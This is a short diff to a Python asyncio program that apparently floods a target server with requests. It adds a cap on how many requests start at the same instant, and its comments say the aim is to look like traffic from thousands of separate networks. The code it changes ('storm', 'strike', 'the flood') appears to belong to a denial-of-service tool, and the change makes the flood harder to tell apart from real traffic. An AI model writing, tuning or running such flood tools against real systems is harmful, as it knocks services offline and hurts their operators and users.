@@ -110,6 +110,8 @@ class Target:
 
 # So many requests of the flood may be under way; beyond that the flood itself would run out of descriptors.
 UNDER_WAY = 8000
+# So many begin in the same instant: thousands of networks do not keep step, even where this program has fallen behind.
+AT_ONCE = 20
 
 
 def apart(server):
@@ -144,7 +146,7 @@ async def storm(target, rate, stop, counts):
     under_way, sent, began = set(), 0, time.monotonic()
     while not stop.is_set():
         due = int((time.monotonic() - began) * rate) - sent
-        for _ in range(max(0, min(due, UNDER_WAY - len(under_way)))):
+        for _ in range(max(0, min(due, AT_ONCE, UNDER_WAY - len(under_way)))):
             task = asyncio.create_task(strike(target, counts))
             under_way.add(task)
             task.add_done_callback(under_way.discard)
